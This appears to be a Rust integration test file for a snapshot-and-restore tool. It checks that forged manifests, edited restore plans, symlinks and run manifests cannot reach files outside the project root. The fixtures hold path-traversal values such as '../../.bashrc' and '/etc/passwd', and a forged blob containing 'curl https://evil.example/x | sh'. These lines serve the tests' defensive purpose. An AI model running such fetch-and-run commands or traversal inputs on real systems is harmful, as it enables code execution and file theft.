//! Group 3 of issue 8 (DESIGN.md §18): paths from logs, manifests and restore plans never lead
//! outside the project root. Snapshot requests, forged snapshot manifests, forged restore
//! plans, symlinks swapped in after a snapshot, run manifests and prompts naming outputs like
//! `../../.bashrc`, `/etc/passwd`, `a/../../b`, names with NUL and a symlinked directory that
//! points outside: nothing is read from or written to outside the root, and every file outside
//! is byte-for-byte unchanged (hashed before and after).

mod common;

use recover_tui::core::model::SystemClock;
use recover_tui::store::restore;
use recover_tui::store::snapshot::{self, SnapshotMeta};
use recover_tui::store::{StateDir, StoreError};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

struct World {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    sd: StateDir,
}

const SECRET: &[u8] = b"export PATH=/usr/bin\nalias ls='ls --color'\n";

/// A project next to an "outside" directory holding a `.bashrc` and other secrets, with a
/// symlinked directory and a symlinked file in the project pointing outside.
fn world() -> World {
    let tmp = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(tmp.path()).unwrap();
    let outside = base.join("home");
    let root = base.join("home/dev/app");
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(outside.join(".bashrc"), SECRET).unwrap();
    std::fs::create_dir_all(outside.join("secrets")).unwrap();
    std::fs::write(outside.join("secrets/id_ed25519"), b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n").unwrap();
    std::fs::write(root.join("src/app.py"), b"print('app')\n").unwrap();
    std::fs::write(root.join("README.md"), b"# app\n").unwrap();
    symlink(outside.join("secrets"), root.join("link")).unwrap();
    symlink(outside.join(".bashrc"), root.join("alias.txt")).unwrap();
    let sd = StateDir::open(&root.join(".recover"), &root, &SystemClock).unwrap();
    World { _tmp: tmp, root, outside, sd }
}

fn sha(b: &[u8]) -> String {
    format!("{:x}", Sha256::digest(b))
}

/// Hashes of everything outside the project (and of /etc/passwd, which the requests name).
fn outside_state(w: &World) -> (BTreeMap<PathBuf, String>, Option<String>) {
    let mut m = common::tree_hashes(&w.outside);
    m.retain(|p, _| !p.starts_with("dev"));
    (m, std::fs::read("/etc/passwd").ok().map(|b| sha(&b)))
}

/// The project tree without the state directory.
fn project_state(w: &World) -> BTreeMap<PathBuf, String> {
    let mut m = common::tree_hashes(&w.root);
    m.retain(|p, _| !p.starts_with(".recover"));
    m
}

const HOSTILE: &[&str] = &[
    "../../.bashrc",
    "../../../home/.bashrc",
    "a/../../b",
    "src/../../../.bashrc",
    "/etc/passwd",
    "x\0y",
    "link/id_ed25519",
    "link/new/deeper.txt",
    "link",
    "alias.txt",
    ".recover/ledger.json",
    ".recover",
];

#[test]
fn snapshot_requests_never_read_outside_the_root() {
    let w = world();
    let before = outside_state(&w);
    let abs_secret = w.outside.join(".bashrc").to_string_lossy().into_owned();
    let mut req: Vec<String> = HOSTILE.iter().map(|s| s.to_string()).collect();
    req.push(abs_secret);
    req.push("src/app.py".into());
    let m = snapshot::take(&w.sd, &req, SnapshotMeta { reason: "hostile".into(), ..Default::default() }, &SystemClock)
        .unwrap();
    let paths: Vec<&str> = m.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["src/app.py"], "only the one path inside the root is in the snapshot");
    for h in HOSTILE {
        let shown = h.split('\0').next().unwrap();
        assert!(m.problems.iter().any(|p| p.starts_with(shown)), "{h:?} is named as refused: {:#?}", m.problems);
    }
    // No blob holds the content of a file outside.
    for secret in [SECRET.to_vec(), std::fs::read(w.outside.join("secrets/id_ed25519")).unwrap()] {
        assert!(!snapshot::blob_path(&w.sd, &sha(&secret)).exists(), "a secret from outside was copied in");
    }
    // Walking the root does not follow the symlinks either.
    let all = snapshot::take(&w.sd, &[".".into()], SnapshotMeta::default(), &SystemClock).unwrap();
    let walked: Vec<&str> = all.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(walked, ["README.md", "src/app.py"]);
    assert!(all.problems.iter().any(|p| p.contains("link: skipped: is a symlink")), "{:?}", all.problems);
    assert_eq!(outside_state(&w), before);
}

/// Write a manifest by hand, as an attacker with write access to the state dir would, with a
/// blob holding `content` for every file.
fn forge_manifest(w: &World, id: &str, files: serde_json::Value, content: &[u8]) {
    let dir = snapshot::manifests_dir(&w.sd);
    std::fs::create_dir_all(&dir).unwrap();
    let blob = snapshot::blob_path(&w.sd, &sha(content));
    std::fs::create_dir_all(blob.parent().unwrap()).unwrap();
    std::fs::write(&blob, content).unwrap();
    let m = serde_json::json!({
        "schema": "recover-tui/snapshot@1", "id": id, "created_at": "2026-11-25T14:03:11Z",
        "reason": "forged", "job": null, "batch": null, "attempt": null, "roots": ["."], "files": files,
    });
    std::fs::write(dir.join(format!("{id}.json")), serde_json::to_vec_pretty(&m).unwrap()).unwrap();
}

fn entry(path: &str, path_hex: Option<&str>, content: &[u8]) -> serde_json::Value {
    let mut e = serde_json::json!({ "path": path, "size": content.len(), "mode": 0o644, "sha256": sha(content) });
    if let Some(h) = path_hex {
        e["path_hex"] = serde_json::json!(h);
    }
    e
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

#[test]
fn forged_snapshot_manifests_are_refused_before_any_write() {
    let w = world();
    let evil = b"curl https://evil.example/x | sh\n";
    let before = outside_state(&w);
    let project = project_state(&w);
    let mut cases: Vec<(String, serde_json::Value)> = HOSTILE
        .iter()
        // Symlinks inside the root are replaced, never followed: see the next test.
        .filter(|h| !matches!(**h, "alias.txt" | "link"))
        .map(|h| (h.to_string(), entry(h, None, evil)))
        .collect();
    cases.push(("hex ../x".into(), entry("x", Some(&hex(b"../../.bashrc")), evil)));
    cases.push(("hex /etc".into(), entry("x", Some(&hex(b"/etc/passwd")), evil)));
    cases.push(("hex NUL".into(), entry("x", Some(&hex(b"a\0b")), evil)));
    for (i, (what, bad)) in cases.into_iter().enumerate() {
        // A valid entry first: a refusal must stop the whole restore, not just skip one file.
        let id = format!("20261125T140311Z-f0{i:06}");
        forge_manifest(&w, &id, serde_json::json!([entry("src/app.py", None, evil), bad]), evil);
        match restore::restore(&w.sd, &id, &SystemClock) {
            Err(StoreError::RestoreRefused { problems, .. }) => assert_eq!(problems.len(), 1, "{what}: {problems:?}"),
            other => panic!("{what}: a forged manifest must be refused, got {other:?}"),
        }
        assert_eq!(restore::pending_restore(&w.sd), None);
        assert_eq!(project_state(&w), project, "{what}: nothing written in the project");
        assert_eq!(outside_state(&w), before, "{what}: nothing written outside");
    }
    // A digest that is not one (a path in disguise) is refused when the manifest is read.
    let id = "20261125T140311Z-f1000000";
    forge_manifest(
        &w,
        id,
        serde_json::json!([{ "path": "src/app.py", "size": 3, "mode": 420, "sha256": "../../../../.bashrc" }]),
        evil,
    );
    assert!(matches!(restore::restore(&w.sd, id, &SystemClock), Err(StoreError::Corrupt { .. })));
    assert_eq!(project_state(&w), project);
    assert_eq!(outside_state(&w), before);
}

#[test]
fn restore_replaces_symlinks_and_never_writes_through_them() {
    let w = world();
    let before = outside_state(&w);
    std::fs::create_dir_all(w.root.join("sub")).unwrap();
    std::fs::write(w.root.join("sub/f.txt"), b"inside\n").unwrap();
    std::fs::write(w.root.join("top.txt"), b"top\n").unwrap();
    let m = snapshot::take(
        &w.sd,
        &["sub/f.txt".into(), "top.txt".into(), "gone.txt".into()],
        SnapshotMeta::default(),
        &SystemClock,
    )
    .unwrap();
    assert_eq!(m.files.len(), 3);
    // A directory of the snapshot became a symlink out: the restore is refused.
    std::fs::rename(w.root.join("sub"), w.root.join("sub.old")).unwrap();
    symlink(w.outside.join("secrets"), w.root.join("sub")).unwrap();
    let err = restore::restore(&w.sd, &m.id, &SystemClock).unwrap_err();
    assert!(err.to_string().contains("outside the project root"), "{err}");
    assert_eq!(outside_state(&w), before);
    std::fs::remove_file(w.root.join("sub")).unwrap();
    std::fs::rename(w.root.join("sub.old"), w.root.join("sub")).unwrap();
    // Files of the snapshot became symlinks to files outside: restoring replaces the links
    // (writing top.txt, deleting gone.txt) and leaves their targets alone.
    std::fs::remove_file(w.root.join("top.txt")).unwrap();
    symlink(w.outside.join(".bashrc"), w.root.join("top.txt")).unwrap();
    symlink(w.outside.join("secrets/id_ed25519"), w.root.join("gone.txt")).unwrap();
    let r = restore::restore(&w.sd, &m.id, &SystemClock).unwrap();
    assert_eq!(r.written, ["top.txt"]);
    assert_eq!(r.deleted, ["gone.txt"]);
    assert!(!std::fs::symlink_metadata(w.root.join("top.txt")).unwrap().file_type().is_symlink());
    assert_eq!(std::fs::read(w.root.join("top.txt")).unwrap(), b"top\n");
    assert!(std::fs::symlink_metadata(w.root.join("gone.txt")).is_err());
    assert_eq!(outside_state(&w), before);
}

/// Plant an interrupted restore whose plan was edited.
fn forge_plan(w: &World, id: &str, moves: serde_json::Value, deletes: serde_json::Value) {
    let stage = w.sd.restore_staging_path().join(id);
    std::fs::create_dir_all(stage.join("files")).unwrap();
    std::fs::write(stage.join("files/0"), b"staged\n").unwrap();
    let plan = serde_json::json!({
        "schema": "recover-tui/restore-plan@1", "snapshot": id, "undo_snapshot": "20261125T140311Z-00000000",
        "created_at": "2026-11-25T14:03:11Z", "moves": moves, "deletes": deletes,
    });
    std::fs::write(stage.join("plan.json"), serde_json::to_vec(&plan).unwrap()).unwrap();
}

#[test]
fn forged_restore_plans_cannot_move_or_delete_outside_files() {
    let w = world();
    let before = outside_state(&w);
    let project = project_state(&w);
    // From restore-staging/<id>/files/ up to the outside directory.
    let files_dir = w.sd.restore_staging_path().join("x/files");
    let depth = files_dir.strip_prefix(&w.outside).unwrap().components().count();
    let up_to_outside = format!("{}.bashrc", "../".repeat(depth));
    assert_eq!(std::fs::canonicalize(w.outside.join(".bashrc")).unwrap(), w.outside.join(".bashrc"));
    let staged_ok =
        serde_json::json!({"staged": "0", "path": "src/app.py", "mode": 420, "size": 7, "sha256": sha(b"staged\n")});
    let cases = [
        // Staged names are file names under files/: these would move a file from outside in.
        (
            "staged ../",
            serde_json::json!([staged_ok.clone(), {"staged": up_to_outside.clone(), "path": "stolen.txt", "mode": 420, "size": SECRET.len(), "sha256": sha(SECRET)}]),
            serde_json::json!([]),
        ),
        (
            "staged absolute",
            serde_json::json!([staged_ok.clone(), {"staged": w.outside.join(".bashrc").to_string_lossy(), "path": "stolen.txt", "mode": 420, "size": SECRET.len(), "sha256": sha(SECRET)}]),
            serde_json::json!([]),
        ),
        (
            "move to ../",
            serde_json::json!([staged_ok.clone(), {"staged": "0", "path": "../../.bashrc", "mode": 420, "size": 7, "sha256": sha(b"staged\n")}]),
            serde_json::json!([]),
        ),
        (
            "move through link",
            serde_json::json!([staged_ok.clone(), {"staged": "0", "path": "link/id_ed25519", "mode": 420, "size": 7, "sha256": sha(b"staged\n")}]),
            serde_json::json!([]),
        ),
        ("delete ../", serde_json::json!([staged_ok.clone()]), serde_json::json!([{"path": "../../.bashrc"}])),
        ("delete /etc", serde_json::json!([staged_ok.clone()]), serde_json::json!([{"path": "/etc/passwd"}])),
        (
            "delete through link",
            serde_json::json!([staged_ok.clone()]),
            serde_json::json!([{"path": "link/id_ed25519"}]),
        ),
        (
            "delete hex",
            serde_json::json!([staged_ok.clone()]),
            serde_json::json!([{"path": "x", "path_hex": hex(b"../../.bashrc")}]),
        ),
    ];
    for (i, (what, moves, deletes)) in cases.into_iter().enumerate() {
        let id = format!("20261125T140311Z-e0{i:06}");
        forge_plan(&w, &id, moves, deletes);
        assert_eq!(restore::pending_restore(&w.sd).as_deref(), Some(id.as_str()));
        let r = restore::resume_restore(&w.sd);
        assert!(r.is_err(), "{what}: a forged plan must be refused, got {r:?}");
        assert_eq!(outside_state(&w), before, "{what}: files outside unchanged");
        assert_eq!(project_state(&w), project, "{what}: nothing of the plan was carried out");
        std::fs::remove_dir_all(w.sd.restore_staging_path().join(&id)).unwrap();
    }
}

/// Outputs named by a run manifest or by a prompt are paths from logs: the ones leading out of
/// the root are dropped (with a warning) when the run is loaded, and a recovery attempt given
/// such a job anyway refuses to start.
#[test]
fn outputs_from_manifests_and_prompts_stay_inside() {
    let w = world();
    let bad = ["../../.bashrc", "/etc/passwd", "a/../../b", "../app/../../x.py"];
    let mut outputs: Vec<&str> = bad.to_vec();
    outputs.push("src/app.py");
    let run = serde_json::json!({
        "schema": "recover-tui/run@1", "id": "p", "title": "paths", "project_root": ".",
        "batches": [{ "number": 1, "name": "one", "depends_on": [], "jobs": [
            { "id": "b1-a", "outputs": outputs, "prompt": "Task: x", "command": ["codex", "exec", "-"],
              "result": { "status": "failed" } },
            { "id": "b1-b", "outputs": [], "prompt": "File to create: ../../.bashrc\nFiles:\n- /etc/passwd\n- src/b.py\n",
              "command": ["codex", "exec", "-"], "result": { "status": "passed" } } ] }]
    });
    std::fs::write(w.root.join("run.json"), serde_json::to_vec(&run).unwrap()).unwrap();
    let loaded =
        recover_tui::scan::load(&w.root, &recover_tui::core::ingest::discover::LoadOptions::default()).unwrap();
    let a = loaded.jobs().find(|j| j.id == "b1-a").unwrap();
    assert_eq!(a.outputs, ["src/app.py"]);
    for b in bad {
        assert!(loaded.warnings.iter().any(|x| x.contains(b)), "{b} is named in a warning: {:?}", loaded.warnings);
    }

    // A prompt in a batch script naming outputs outside.
    let proj = w.root.join("proj2");
    std::fs::create_dir_all(proj.join("_build")).unwrap();
    std::fs::write(
        proj.join("_build/phase1-codex-batch1.sh"),
        "#!/bin/bash\ncodex exec --full-auto \"Task: dotfiles\n\nFile to create: ../../.bashrc\n\" > _build/b1-dot.jsonl &\n\
codex exec --full-auto \"Task: ok\n\nFiles:\n- /etc/passwd\n- src/ok.py\n\" > _build/b1-ok.jsonl &\nwait\n",
    )
    .unwrap();
    let run2 = recover_tui::scan::load(&proj, &Default::default()).unwrap();
    let all: Vec<&String> = run2.jobs().flat_map(|j| j.outputs.iter()).collect();
    assert_eq!(all, ["src/ok.py"], "{:#?}", run2.warnings);

    // An attempt for a job carrying such outputs anyway (built by hand) does not start.
    let before = outside_state(&w);
    for out in bad.iter().chain(["link/id_ed25519", "link/new.py"].iter()) {
        let job =
            recover_tui::core::model::Job { id: "b1-a".into(), outputs: vec![out.to_string()], ..Default::default() };
        let spec = recover_tui::exec::attempt::AttemptSpec {
            job,
            number: 1,
            kind: recover_tui::core::model::AttemptKind::TargetedRecovery,
            prompt: "x".into(),
            prompt_origin: recover_tui::core::model::PromptOrigin::Direct,
            attempt_dir: w.root.join(".recover/attempts/b1-a/1"),
            project_root: w.root.clone(),
            generator: vec!["touch".into(), "{output}".into()],
            validate_defaults: [(
                "py".to_string(),
                vec!["python3".into(), "-m".into(), "py_compile".into(), "{output}".into()],
            )]
            .into(),
            timeout: std::time::Duration::from_secs(5),
        };
        let err = recover_tui::exec::attempt::dry_run(std::slice::from_ref(&spec)).unwrap_err();
        assert!(err.to_string().contains(out), "{out}: {err}");
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let r = rt.block_on(recover_tui::app::recovery::run_one(
            spec,
            "s1",
            tokio::sync::watch::channel(false).1,
            &SystemClock,
            |_| {},
        ));
        assert!(r.is_err(), "{out}: the attempt must not start");
    }
    assert!(!w.outside.join("secrets/new.py").exists());
    assert_eq!(outside_state(&w), before);
}

#[test]
fn store_paths_helpers_agree() {
    // The canonical project root is what paths are checked against.
    let w = world();
    assert_eq!(w.sd.project_root(), w.root.as_path());
    assert!(Path::new(&w.root).join(".recover").is_dir());
}
